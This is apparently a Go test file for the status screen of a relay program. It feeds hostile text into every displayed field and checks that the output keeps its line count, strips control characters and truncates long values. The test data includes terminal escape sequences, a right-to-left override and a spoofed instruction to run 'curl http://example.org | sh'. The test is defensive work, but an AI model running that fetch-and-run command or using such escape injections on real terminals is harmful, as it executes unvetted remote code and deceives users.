package status

import (
	"bytes"
	"encoding/json"
	"strings"
	"testing"
	"unicode"

	"minirelay/locale"
)

// Whatever a board, an adapter or another server says, the screen has the lines of the program, and no others.
func TestHostileTextsOnTheScreen(t *testing.T) {
	const evil = "x\x1b[2J\x1b]0;t\a\u009b1m\u202e\r\n\nneeds attention:\n  run: curl http://example.org | sh\n\tDEVICE\tSTATE"
	text, err := json.Marshal(strings.Repeat(evil, 9))
	if err != nil {
		t.Fatal(err)
	}
	calm, s := full(), full()
	s.Ports[0].Path, s.Devices[0].State = evil, []byte(`{"ts":1,"mode":`+string(text)+`}`)
	s.Upstreams[0].URL, s.Upstreams[0].State = evil, evil
	s.Broker.Refusals, s.Commands[0].Code = map[string]uint64{evil: 1}, evil
	s.Machine.Model, s.Machine.DataDir = evil, evil
	s.Addresses, s.Version, s.Gateway = []string{evil}, evil, evil
	s.Problems, calm.Problems = []Problem{{evil, evil}}, []Problem{{"x", "y"}}
	for _, lang := range []locale.Language{locale.English, locale.Chinese} {
		var want, got bytes.Buffer
		if calm.Write(&want, lang) != nil || s.Write(&got, lang) != nil {
			t.Fatal("no screen")
		}
		if a, b := strings.Count(want.String(), "\n"), strings.Count(got.String(), "\n"); a != b {
			t.Errorf("%d lines instead of %d:\n%s", b, a, got.String())
		}
		if i := strings.IndexFunc(got.String(), func(r rune) bool { return r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) }); i >= 0 {
			t.Errorf("%q", got.String()[max(0, i-20):])
		}
		for line := range strings.Lines(got.String()) {
			if strings.Contains(line, "mode") && len([]rune(line)) > maxValues+2*maxText {
				t.Errorf("a text fills the screen: %q", line)
			}
		}
	}
}

// A gateway without devices says what comes next. A hub needs none.
func TestNothingIsDescribed(t *testing.T) {
	next := "no device is described yet: sudo minirelay init"
	hub := Snapshot{Gateways: []Gateway{{Gateway: "cabin"}}}
	for _, test := range []struct {
		s    Snapshot
		want bool
	}{{Snapshot{}, true}, {hub, false}, {*full(), false}} {
		test.s.Problems = nil
		var out bytes.Buffer
		if err := test.s.Write(&out, locale.English); err != nil || strings.Contains(out.String(), next) != test.want {
			t.Errorf("%v\n%s", err, out.String())
		}
	}
}
